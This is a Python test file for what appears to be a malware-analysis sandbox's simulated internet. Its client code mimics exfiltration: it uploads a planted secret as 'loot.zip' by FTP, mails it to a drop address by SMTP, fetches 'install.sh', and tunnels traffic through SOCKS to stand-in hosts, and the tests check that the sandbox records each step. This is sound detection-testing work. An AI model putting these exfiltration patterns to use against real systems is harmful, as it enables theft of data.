"""Clients of the standard library, and tunnels, met by the simulated internet in a network namespace of its own.

Run as a program, this file is the clients: `python test_internet_protocols.py CA` inside the namespace.
"""

from __future__ import annotations

import ftplib
import imaplib
import io
import json
import poplib
import signal
import smtplib
import socket
import ssl
import struct
import sys
from typing import Any

import pytest
from dnslib import DNSRecord

LOOT = b"value-of-a-planted-secret"
SECONDS = 30


# --- inside the namespace ---


def ftp(host: str, context: ssl.SSLContext | None) -> list[str]:
    client = ftplib.FTP_TLS(context=context, timeout=SECONDS) if context else ftplib.FTP(timeout=SECONDS)
    with client:
        client.connect(host)
        client.login("alex", "p4ss")
        if isinstance(client, ftplib.FTP_TLS):
            client.prot_p()
        client.storbinary("STOR loot.zip", io.BytesIO(LOOT))
        fetched: list[bytes] = []
        client.retrbinary("RETR install.sh", fetched.append)
        return [*client.nlst(), b"".join(fetched)[:9].decode()]


def mail(context: ssl.SSLContext) -> list[object]:
    with smtplib.SMTP_SSL("203.0.113.25", 465, context=context, timeout=SECONDS) as client:
        client.login("alex", "p4ss")
        refused = client.sendmail("alex@a.example", ["drop@b.example"], b"Subject: x\r\n\r\n" + LOOT)
    inbox = poplib.POP3_SSL("203.0.113.25", context=context, timeout=SECONDS)
    inbox.user("alex")
    inbox.pass_("p4ss")
    count = inbox.stat()[0]
    inbox.quit()
    with imaplib.IMAP4("203.0.113.25", timeout=SECONDS) as box:
        box.starttls(context)
        box.login("alex", "p4ss")
        return [refused, count, box.select()[0]]


def in_a_tunnel() -> str:
    """HTTP in a tunnel of SOCKS."""
    with socket.create_connection(("203.0.113.80", 1080), timeout=SECONDS) as line:
        line.sendall(b"\x05\x01\x00")
        line.recv(2)
        line.sendall(b"\x05\x01\x00\x03\x0bwww.example" + struct.pack("!H", 8080))
        line.recv(10)
        line.sendall(b"GET /x HTTP/1.1\r\nHost: www.example:8080\r\nConnection: close\r\n\r\n")
        return line.recv(15).decode()


def cut_and_asked_again() -> list[int]:
    """Answers to many questions: over UDP cut, over TCP whole."""
    query = DNSRecord.question("a.example", "AAAA")
    for _ in range(15):
        query.add_question(query.q)
    message = bytes(query.pack())
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(SECONDS)
        line.sendto(message, ("203.0.113.53", 53))
        short = DNSRecord.parse(line.recv(4096))
    with socket.create_connection(("203.0.113.53", 53), timeout=SECONDS) as line:
        line.sendall(len(message).to_bytes(2, "big") + message)
        stream = line.makefile("rb")
        whole = DNSRecord.parse(stream.read(int.from_bytes(stream.read(2), "big")))
    return [short.header.tc, len(short.rr), whole.header.tc, len(whole.rr)]


def clients(certificate: str) -> dict[str, object]:
    context = ssl.create_default_context(cafile=certificate)
    return {
        "ftp": ftp("203.0.113.21", None),
        "ftp6": ftp("2001:db8::21", None),
        "ftps": ftp("203.0.113.21", context),
        "mail": mail(context),
        "tunnel": in_a_tunnel(),
        "dns": cut_and_asked_again(),
    }


# --- outside ---


pytestmark = pytest.mark.embedded


@pytest.fixture(scope="module")
def met(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, Any], list[dict[str, Any]], bytes]:
    """What the clients were told, what was recorded, and what was kept of what they sent."""
    from analyzer.sandbox import answers
    from tests.integration.test_internet import ORDINARY, Namespace, read

    folder = tmp_path_factory.mktemp("record")
    answers.place(folder, off=False, additional=None)
    namespace = Namespace(folder)
    try:
        assert namespace.run(sys.executable, "-P", "-m", "internet", "network").returncode == 0
        server = namespace.serve()
        done = namespace.run(*ORDINARY, sys.executable, __file__, str(folder / "ca.pem"))
        server.send_signal(signal.SIGTERM)
        assert (server.wait(60), server.communicate()[1]) == (0, b"")
        assert done.returncode == 0, done.stderr
    finally:
        namespace.close()
    return json.loads(done.stdout), read(folder / "exchanges.jsonl"), (folder / "sent.bin").read_bytes()


def test_they_are_satisfied(met: tuple[dict[str, Any], list[dict[str, Any]], bytes]) -> None:
    told = met[0]
    assert told["ftp"] == told["ftp6"] == told["ftps"] == ["pub", "data.bin", "#!/bin/sh"]
    assert told["mail"] == [{}, 0, "OK"]
    assert told["tunnel"] == "HTTP/1.1 200 OK"
    assert told["dns"] == [1, 0, 0, 16]


def test_their_acts_are_told(met: tuple[dict[str, Any], list[dict[str, Any]], bytes]) -> None:
    _, records, kept = met
    acts = {(record["verb"], record["url"], record["tls"]) for record in records if record["kind"] == "exchange"}
    assert acts >= {
        ("STOR", "ftp://203.0.113.21/loot.zip", False),
        ("STOR", "ftp://203.0.113.21/loot.zip", True),
        ("STOR", "ftp://[2001:db8::21]/loot.zip", False),
        ("USER", "ftp://alex@203.0.113.21", True),
        ("AUTH", "smtp://alex@203.0.113.25", True),
        ("RCPT", "smtp://203.0.113.25/drop@b.example", True),
        ("PASS", "pop3://alex@203.0.113.25", True),
        ("LOGIN", "imap://alex@203.0.113.25", True),
        ("CONNECT", "socks://203.0.113.80/www.example:8080", False),
    }
    assert [record["url"] for record in records if record["kind"] == "http"] == ["http://www.example:8080/x"]
    assert kept.count(LOOT) >= 4
    assert not [record["detail"] for record in records if record["kind"] == "limit"]
    data = [record for record in records if record["kind"] == "tcp" and record["protocol"] == "ftp-data"]
    assert len(data) == 9


if __name__ == "__main__":
    sys.stdout.write(json.dumps(clients(sys.argv[1])))
